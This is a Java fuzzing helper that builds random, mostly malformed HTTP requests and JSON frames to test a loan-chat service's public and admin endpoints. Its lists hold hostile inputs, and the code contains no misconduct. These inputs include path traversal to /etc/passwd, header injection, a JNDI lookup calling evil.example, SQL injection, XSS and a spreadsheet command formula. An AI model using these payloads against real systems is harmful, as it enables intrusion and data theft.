package dev.haoshang.web;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** Makes up requests and frames: some as they should be, most of them not. The same seed makes the same ones. */
final class Mischief {
    private static final List<String> METHODS = List.of(
            "GET", "POST", "DELETE", "PUT", "PATCH", "OPTIONS", "HEAD", "TRACE", "CONNECT", "get", "X", "GET POST");

    private static final List<String> PATHS = List.of(
            "/api/v1/conversations",
            "/api/v1/conversations/ID",
            "/api/v1/conversations/ID/messages",
            "/api/v1/conversations/ID/events?after=NUMBER",
            "/api/v1/conversations/ID/facts",
            "/api/v1/conversations/ID/export",
            "/api/v1/conversations/ID/socket",
            "/api/v1/conversations/ID/proposal.json",
            "/api/v1/conversations/ID/proposal.html",
            "/api/v1/conversations/ID/proposal.exe",
            "/api/v1/conversations/ID/guide.pdf",
            "/api/v1/understand",
            "/api/v1/calculate",
            "/api/v1/openapi.yaml",
            "/health/live",
            "/metrics",
            "/chat",
            "/widget.js",
            "/",
            "/FILE");

    /** What is asked of the team's port behind a path; most of it nothing to that path. */
    private static final List<String> TEAM_QUERIES = List.of(
            "",
            "?after=NUMBER",
            "?state=handoff&after=NUMBER.ID",
            "?state=FILE",
            "?before=TIME",
            "?from=DAY&to=DAY",
            "?from=DAY&language=FILE",
            "?to=DAY&language=en",
            "?redirect=http://127.0.0.1/admin/&state=state-of-the-page&challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM");

    private static final List<String> TEAM_PATHS = teamPaths();

    private static final List<String> DAYS = List.of(
            "2026-11-22",
            "2026-11-01",
            "0001-01-01",
            "9999-12-31",
            "-0001-12-31",
            "%2B999999999-12-31",
            "-999999999-01-01",
            "2026-02-30",
            "22.11.2026",
            "now",
            "");

    private static final List<String> TIMES = List.of(
            "2026-11-22T08:00:00Z",
            "1969-12-31T23:59:59.999Z",
            "%2B1000000000-12-31T23:59:59.999999999Z",
            "-1000000000-01-01T00:00:00Z",
            "2026-11-22",
            "25:00",
            "");

    private static final List<String> TEAM_BODIES = List.of(
            "{\"id\":\"a\",\"text\":\"hello, I am a person\"}",
            "{\"id\":\"b\"}",
            "{\"text\":\"\u6b20\u4e09\u4e07\u4e94\",\"asked\":\"balance\"}",
            "{\"text\":\"hello\"}",
            "{\"code\":\"guess\",\"verifier\":\"a-verifier-of-the-page-that-is-long-enough~\",\"redirect\":\"http://127.0.0.1/admin/\"}");

    private static final List<String> FILES = List.of(
            "../../../etc/passwd",
            "..%2f..%2f..%2fetc%2fpasswd",
            "%2e%2e/%2e%2e/pom.xml",
            "....//....//pom.xml",
            "..\\..\\pom.xml",
            "%00",
            "widget.js%00.html",
            "%c0%ae%c0%ae/pom.xml",
            "%",
            "%zz",
            "a%0d%0aSet-Cookie:%20injected=1",
            "//evil.example/",
            "\u4f60\u597d",
            "api/../metrics",
            ";a=b",
            "?a=%ff&&&=&x[]=1",
            "dev/haoshang/Main.class");

    private static final List<String> NUMBERS =
            List.of("0", "1", "-1", "999999999999999", "9999999999999999999999", "1e9", "", "NaN", "0x10", "%31");

    private static final List<String> HEADERS = List.of(
            "Origin: https://evil.example",
            "Origin: null",
            "Origin: :::",
            "Origin: http://h",
            "Content-Type: text/html",
            "Content-Type: multipart/form-data; boundary=x",
            "Content-Encoding: gzip",
            "Expect: 100-continue",
            "Transfer-Encoding: chunked",
            "Transfer-Encoding: chunked, identity",
            "Content-Length: 3",
            "Content-Length: -1",
            "Content-Length: 99999999999",
            "X-Forwarded-For: 1.2.3.4, nonsense, ::ffff:1.1.1.1",
            "X-Forwarded-Proto: https\tx",
            "X-HTTP-Method-Override: DELETE",
            "traceparent: 00-zz-yy-xx",
            "traceparent: 00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
            "Range: bytes=5-1,-,9999999999-",
            "Accept-Encoding: gzip;q=x",
            "If-Modified-Since: yesterday",
            "Cookie: a=b; a=c",
            "Upgrade: websocket\r\nConnection: Upgrade",
            "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: x",
            "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__",
            "X: a\rb",
            "X: a\nInjected: 1",
            " folded: x",
            "no colon",
            ": no name",
            "Host: other.example");

    private static final List<String> BODIES = List.of(
            "{\"language\":\"en\"}",
            "{\"language\":\"zh-Hans\",\"lender\":\"example\"}",
            "{\"id\":\"a\",\"text\":\"hello\"}",
            "{\"id\":\"b\",\"choice\":\"value:yes\"}",
            "{\"id\":\"c\",\"set\":{\"slot\":\"balance\",\"value\":\"35000\"}}",
            "{\"text\":\"\u6b20\u4e09\u4e07\u4e94\",\"asked\":\"balance\"}",
            "{\"kind\":\"equal_instalment\",\"principal\":\"35000\",\"annual_rate\":\"14.6\",\"months\":\"24\"}",
            "{\"type\":\"hello\",\"token\":\"TOKEN\",\"after\":0}",
            "{\"type\":\"message\",\"id\":\"d\",\"text\":\"can I pay later?\"}",
            "{\"type\":\"ping\"}");

    private static final List<String> SCRAPS = List.of(
            "null",
            "[]",
            "{}",
            "\"",
            "\\",
            "\\u0000",
            "\\ud800",
            "1e400",
            "-0",
            "99999999999999999999999999",
            "{\"a\":".repeat(60),
            "[".repeat(5_000),
            "x".repeat(3_000),
            "\u202e\u0000\u001b[2J",
            "</script><img src=x onerror=alert(1)>",
            "=cmd|' /C calc'!A0",
            "${jndi:ldap://evil.example/a}",
            "' or 1=1; drop table conversation; --",
            "\r\nSet-Cookie: injected=1",
            "%s%n%d",
            "\ud83d\ude00".repeat(50),
            ",",
            "}",
            ":");

    private final Random random;
    private final List<String> paths;
    private final List<String> bodies;
    private final String id;
    private final List<String> tokens;

    private Mischief(long seed, List<String> paths, List<String> bodies, String id, List<String> tokens) {
        this.random = new Random(seed);
        this.paths = paths;
        this.bodies = bodies;
        this.id = id;
        this.tokens = tokens;
    }

    /**
     * A source of mischief for the public port.
     *
     * @param id of a conversation that exists
     * @param tokens that may be tried
     */
    static Mischief ofBorrowers(long seed, String id, List<String> tokens) {
        return new Mischief(seed, PATHS, BODIES, id, tokens);
    }

    /** The same for every route of the team's port that its description has, and for some that it has not. */
    static Mischief ofTheTeam(long seed, String id, List<String> tokens) {
        return new Mischief(seed, TEAM_PATHS, TEAM_BODIES, id, tokens);
    }

    private static List<String> teamPaths() {
        List<String> paths = new ArrayList<>(List.of("/admin", "/admin/", "/admin/FILE", "/FILE", "/metrics"));
        for (String operation : new Description("admin.yaml").operations()) {
            String path = operation.replaceFirst("\\S+ ", "").replace("{id}", "ID");
            TEAM_QUERIES.forEach(query -> paths.add(path + query));
        }
        return List.copyOf(paths);
    }

    /** A request, whole or broken. */
    byte[] request() {
        String method = chance(70) ? METHODS.get(random.nextInt(3)) : any(METHODS);
        byte[] body = method.equals("POST") || chance(10) ? body() : new byte[0];
        StringBuilder head =
                new StringBuilder(method + " " + path() + (chance(97) ? " HTTP/1.1" : " HTTP/9.9") + "\r\n");
        if (chance(97)) {
            head.append("Host: 127.0.0.1\r\n");
        }
        if (chance(70)) {
            head.append("Authorization: ")
                    .append(chance(90) ? "Bearer " : "Basic ")
                    .append(any(tokens))
                    .append("\r\n");
        }
        for (int i = chance(50) ? 0 : random.nextInt(4); i > 0; i--) {
            head.append(any(HEADERS)).append("\r\n");
        }
        if (chance(1)) {
            head.append("X: ").append("x".repeat(random.nextInt(20_000))).append("\r\n");
        }
        if (chance(95)) {
            head.append("Content-Length: ").append(body.length).append("\r\n");
        }
        head.append("\r\n");
        ByteArrayOutputStream request = new ByteArrayOutputStream();
        request.writeBytes(head.toString().getBytes(StandardCharsets.UTF_8));
        request.writeBytes(body);
        return chance(3) ? broken(request.toByteArray()) : request.toByteArray();
    }

    private String path() {
        String path = any(paths)
                .replace("ID", chance(80) ? id : any(FILES))
                .replace("NUMBER", any(NUMBERS))
                .replace("DAY", any(DAYS))
                .replace("TIME", any(TIMES))
                .replace("FILE", any(FILES));
        return chance(2) ? path + "?" + "a".repeat(random.nextInt(6_000)) : path;
    }

    private byte[] body() {
        byte[] body = frame().getBytes(StandardCharsets.UTF_8);
        return chance(5) ? broken(body) : body;
    }

    /** A text with JSON, whole or broken. */
    String frame() {
        StringBuilder text = new StringBuilder(any(bodies).replace("TOKEN", any(tokens)));
        for (int i = chance(40) ? 0 : 1 + random.nextInt(3); i > 0; i--) {
            int at = random.nextInt(text.length() + 1);
            int end = Math.min(text.length(), at + random.nextInt(6));
            text.replace(at, end, chance(70) ? any(SCRAPS) : "");
        }
        return chance(1) ? text + " ".repeat(random.nextInt(100_000)) : text.toString();
    }

    /** Bytes with some of them changed. */
    byte[] broken(byte[] bytes) {
        byte[] broken = bytes.clone();
        for (int i = random.nextInt(8); i >= 0 && broken.length > 0; i--) {
            broken[random.nextInt(broken.length)] = (byte) random.nextInt(256);
        }
        return broken;
    }

    /** Bytes of no meaning. */
    byte[] noise() {
        byte[] noise = new byte[1 + random.nextInt(300)];
        random.nextBytes(noise);
        return noise;
    }

    private boolean chance(int percent) {
        return random.nextInt(100) < percent;
    }

    private String any(List<String> all) {
        return all.get(random.nextInt(all.size()));
    }
}
